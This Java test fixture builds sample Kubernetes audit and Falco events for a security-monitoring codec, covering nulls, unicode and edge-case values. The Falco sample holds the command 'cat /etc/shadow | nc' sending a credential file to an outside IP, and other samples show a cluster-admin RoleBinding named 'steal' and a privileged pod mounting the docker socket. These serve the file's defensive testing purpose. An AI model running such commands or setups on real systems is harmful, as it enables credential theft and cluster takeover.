package io.tenantwatch.schemas.codec;

import io.tenantwatch.schemas.Actor;
import io.tenantwatch.schemas.ActorClass;
import io.tenantwatch.schemas.ActorType;
import io.tenantwatch.schemas.Facts;
import io.tenantwatch.schemas.FalcoFacts;
import io.tenantwatch.schemas.NormalizedEvent;
import io.tenantwatch.schemas.ResourceRef;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.time.Instant;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Events as ingest makes them, one per shape the codec has to carry. */
final class SampleEvents {

    static final Instant T = Instant.parse("2026-03-01T10:15:30.123456789Z");

    private SampleEvents() {}

    static List<NormalizedEvent> all() {
        return List.of(
                podCreate(),
                roleBinding(),
                clusterRole(),
                falco(),
                nullsEverywhere(),
                unicode(),
                emptyListsAndMaps(),
                attributed(),
                otherFacts(),
                namespaceDelete());
    }

    static NormalizedEvent podCreate() {
        Facts facts = new Facts(
                new Facts.PodSpec(
                        List.of("nginx:1.27", "busybox@sha256:abc"),
                        List.of("nginx"),
                        List.of("/etc", "/var/run/docker.sock"),
                        true,
                        false,
                        true,
                        List.of("NET_ADMIN", "SYS_PTRACE"),
                        "default",
                        "7998647bdf"),
                null,
                null,
                null,
                null,
                null,
                null,
                List.of(new Facts.OwnerRef("ReplicaSet", "web-7998647bdf", "apps/v1", true)));
        return audit(
                "create",
                new ResourceRef("", "pods", null, "alpha", "web-7998647bdf-x1"),
                new Actor(
                        "system:serviceaccount:kube-system:replicaset-controller",
                        "u1",
                        List.of("system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"),
                        null,
                        null,
                        ActorType.SERVICEACCOUNT,
                        "kube-system",
                        null,
                        null,
                        null),
                facts);
    }

    static NormalizedEvent roleBinding() {
        Facts facts = new Facts(
                null,
                new Facts.Rbac(
                        new Facts.RoleRef("ClusterRole", "cluster-admin", "rbac.authorization.k8s.io"),
                        List.of(
                                new Facts.Subject("User", "mallory@contoso.com", null),
                                new Facts.Subject("ServiceAccount", "ci", "alpha-ci"),
                                new Facts.Subject("Group", "system:masters", null)),
                        List.of()),
                null,
                null,
                null,
                null,
                null,
                List.of());
        return audit(
                "create",
                new ResourceRef("rbac.authorization.k8s.io", "rolebindings", null, "beta", "steal"),
                user("mallory@contoso.com"),
                facts);
    }

    static NormalizedEvent clusterRole() {
        Facts facts = new Facts(
                null,
                new Facts.Rbac(
                        null,
                        List.of(),
                        List.of(
                                new Facts.Rule(List.of("*"), List.of("*"), List.of("*"), List.of()),
                                new Facts.Rule(List.of("get"), List.of(), List.of(), List.of("/metrics", "/healthz")))),
                null,
                null,
                null,
                null,
                null,
                List.of());
        return audit(
                "update",
                new ResourceRef("rbac.authorization.k8s.io", "clusterroles", null, null, "everything"),
                user("admin@contoso.com"),
                facts);
    }

    static NormalizedEvent otherFacts() {
        Facts facts = new Facts(
                null,
                null,
                new Facts.Service(
                        "LoadBalancer", Map.of("service.beta.kubernetes.io/azure-load-balancer-internal", "false")),
                new Facts.ConfigMap(List.of("app.properties", "AWS_SECRET"), List.of("AWS_SECRET")),
                new Facts.Secret("kubernetes.io/service-account-token"),
                new Facts.Namespace(
                        Map.of("tenantwatch.io/tenant", "alpha", "env", "prod"),
                        Map.of("tenantwatch.io/tenant", "beta"),
                        List.of("*")),
                new Facts.NetworkPolicy(true, false),
                List.of(
                        new Facts.OwnerRef("Deployment", "web", "apps/v1", false),
                        new Facts.OwnerRef(null, null, null, true)));
        return audit("patch", new ResourceRef("", "namespaces", null, null, "alpha"), user("bob"), facts);
    }

    /** A namespace's delete with the uid of the incarnation it retires (binary extension 1). */
    static NormalizedEvent namespaceDelete() {
        Facts facts = new Facts(
                null,
                null,
                null,
                null,
                null,
                new Facts.Namespace(
                        Map.of("tenantwatch.io/tenant", "alpha"),
                        Map.of(),
                        List.of(),
                        "0f6a3c52-9b1e-4d7a-8c2f-5e4b3a2d1c09"),
                null,
                List.of());
        return audit("delete", new ResourceRef("", "namespaces", null, null, "alpha"), user("bob"), facts);
    }

    static NormalizedEvent falco() {
        Map<String, Object> fields = new LinkedHashMap<>();
        fields.put("container.id", "3ad7b26ded6d");
        fields.put("evt.time", 1_700_000_000_123_456_789L);
        fields.put("proc.pid", 4242L);
        fields.put("fd.sport", -1L);
        fields.put("small", 7);
        fields.put("evt.arg.ratio", 0.25);
        fields.put("float", 1.5f);
        fields.put("huge", new BigInteger("123456789012345678901234567890"));
        fields.put("dec", new BigDecimal("-12.3400"));
        fields.put("proc.is_exe_upper_layer", true);
        fields.put("proc.tty", false);
        fields.put("k8s.pod.name", null);
        fields.put("proc.cmdline", "sh -c cat /etc/shadow | nc 10.0.0.1 4444");
        fields.put("proc.aname", Arrays.asList("sh", null, "containerd-shim", 3L));
        fields.put("nested", Map.of("a", List.of(Map.of("b", 1L)), "c", "d"));
        fields.put("empty.list", List.of());
        fields.put("empty.map", Map.of());
        return new NormalizedEvent(
                "5f9c3b8a-0a6c-4c3b-9c7e-6d1f0e2b7a11",
                NormalizedEvent.SOURCE_FALCO,
                "aks-prod",
                null,
                T,
                null,
                null,
                new Actor("root", null, List.of(), null, null, ActorType.PROCESS, null, "web-1", null, null),
                null,
                new ResourceRef(null, null, null, "alpha", null),
                null,
                null,
                null,
                List.of(),
                null,
                Map.of(),
                null,
                new FalcoFacts(
                        "Terminal shell in container",
                        "Notice",
                        List.of("container", "shell", "mitre_execution", "T1059"),
                        "aks-nodepool1-123",
                        "5f9c3b8a-0a6c-4c3b-9c7e-6d1f0e2b7a11",
                        fields),
                null,
                null,
                null);
    }

    static NormalizedEvent nullsEverywhere() {
        return new NormalizedEvent(
                null, null, null, null, null, null, null, null, null, null, null, null, null, null, null, null, null,
                null, null, null, null);
    }

    static NormalizedEvent unicode() {
        return new NormalizedEvent(
                "ü-🙂-id",
                NormalizedEvent.SOURCE_AUDIT,
                "クラスター",
                null,
                Instant.ofEpochSecond(-1, 1), // before 1970, and a single nanosecond
                "ü-🙂-id",
                "ResponseComplete",
                new Actor(
                        "José Ñúñez <jose@contoso.com>",
                        "",
                        List.of("grüppe", "グループ", "x".repeat(300)),
                        "00000000-0000-0000-0000-000000000000",
                        ActorClass.UNATTRIBUTED,
                        ActorType.USER,
                        null,
                        null,
                        "🔑",
                        "impersonator \u0000 with a NUL"),
                "get",
                new ResourceRef("", "secrets", null, "naïve", "s€cret"),
                "/api/v1/namespaces/na%C3%AFve/secrets/s%E2%82%ACcret",
                "allow",
                200,
                List.of("2001:db8::1"),
                "kubectl/v1.30 (linux/amd64) 日本",
                Map.of("note", "ü".repeat(200)),
                Facts.NONE,
                null,
                "ténant",
                List.of("ténant"),
                "file");
    }

    static NormalizedEvent emptyListsAndMaps() {
        return new NormalizedEvent(
                "",
                "",
                "",
                "",
                Instant.EPOCH,
                "",
                "",
                new Actor("", "", List.of(), "", null, null, "", "", "", ""),
                "",
                new ResourceRef("", "", "", "", ""),
                "",
                "",
                0,
                List.of(),
                "",
                Map.of(),
                new Facts(
                        new Facts.PodSpec(List.of(), List.of(), List.of(), false, false, false, List.of(), null, null),
                        new Facts.Rbac(null, List.of(), List.of()),
                        new Facts.Service(null, Map.of()),
                        new Facts.ConfigMap(List.of(), List.of()),
                        new Facts.Secret(null),
                        new Facts.Namespace(Map.of(), Map.of(), List.of()),
                        new Facts.NetworkPolicy(false, false),
                        List.of()),
                new FalcoFacts("", "", List.of(), "", "", Map.of()),
                "",
                List.of(),
                "");
    }

    /** As detection writes it back: actor class and tenants set; odd codes and far-off times. */
    static NormalizedEvent attributed() {
        NormalizedEvent e = new NormalizedEvent(
                "a-1",
                NormalizedEvent.SOURCE_AUDIT,
                "aks-prod",
                "/SUBSCRIPTIONS/X/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-PROD",
                Instant.MAX,
                "a-1",
                "ResponseComplete",
                user("alice@contoso.com"),
                "list",
                new ResourceRef("", "configmaps", null, "beta-prod", null),
                "/api/v1/namespaces/beta-prod/configmaps?limit=500",
                "allow",
                -2_147_483_648,
                List.of("10.0.0.4", "10.0.0.5"),
                "kubectl/v1.30",
                Map.of("authorization.k8s.io/decision", "allow", "authorization.k8s.io/reason", ""),
                Facts.NONE,
                null,
                null,
                null,
                null);
        return e.attributed(ActorClass.TENANT_MEMBER, "beta", List.of("alpha", "gamma"), "label:tenantwatch.io/tenant");
    }

    private static NormalizedEvent audit(String verb, ResourceRef resource, Actor actor, Facts facts) {
        return new NormalizedEvent(
                "0b4e6c1e-94a4-4f1a-9d7c-5d3e1e2c9f00",
                NormalizedEvent.SOURCE_AUDIT,
                "aks-prod",
                null,
                T,
                "0b4e6c1e-94a4-4f1a-9d7c-5d3e1e2c9f00",
                "ResponseComplete",
                actor,
                verb,
                resource,
                "/apis/" + resource.apiGroup() + "/" + resource.resource(),
                "allow",
                201,
                List.of("10.244.0.17"),
                "kube-controller-manager/v1.30.3 (linux/amd64) kubernetes/6fc0a69/system:serviceaccount:kube-system:replicaset-controller",
                Map.of(
                        "authorization.k8s.io/decision",
                        "allow",
                        "pod-security.kubernetes.io/enforce-policy",
                        "privileged:latest"),
                facts,
                null,
                null,
                null,
                null);
    }

    private static Actor user(String name) {
        return new Actor(
                name,
                "uid-" + name,
                List.of("system:authenticated"),
                "9a8b7c6d-0000-1111-2222-333344445555",
                null,
                ActorType.USER,
                null,
                null,
                null,
                null);
    }
}
